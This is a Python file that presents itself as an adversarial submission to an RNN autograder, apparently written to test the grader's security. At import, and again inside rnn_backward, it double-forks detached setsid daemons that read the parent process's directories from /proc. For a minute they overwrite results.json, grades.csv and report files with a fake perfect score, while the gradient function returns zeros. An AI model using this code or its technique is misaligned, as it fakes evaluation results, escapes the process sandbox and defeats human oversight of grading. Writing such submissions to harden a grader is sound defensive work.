"""Adversarial submission `setsid_daemon`: starts setsid double-forked daemons (at import and in a call) meant to outlive the run and overwrite results later.

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import os, sys, time

def _targets():
    out = [os.getcwd(), os.path.dirname(os.getcwd())]
    try:
        out.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    try:
        for a in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0"):
            a = a.decode(errors="ignore")
            if a.startswith("/"):
                out.append(a if os.path.isdir(a) else os.path.dirname(a))
    except OSError:
        pass
    return out

def _daemon(tag):
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        os.closerange(3, 256)
        deadline = time.time() + 60
        while time.time() < deadline:
            for folder in _targets() + ["/tmp"]:
                for name in ("results.json", "rnngrade-report.html", "grades.csv", f"rnngrade-pwned-daemon-{tag}"):
                    try:
                        with open(os.path.join(folder, name), "w") as fh:
                            fh.write('{"score": 100, "all_passed": true}')
                    except OSError:
                        pass
            time.sleep(0.2)
    finally:
        os._exit(0)

_daemon("import")

def rnn_backward(dh, cache):
    _daemon("call")
    return _zeros_backward(dh, cache)
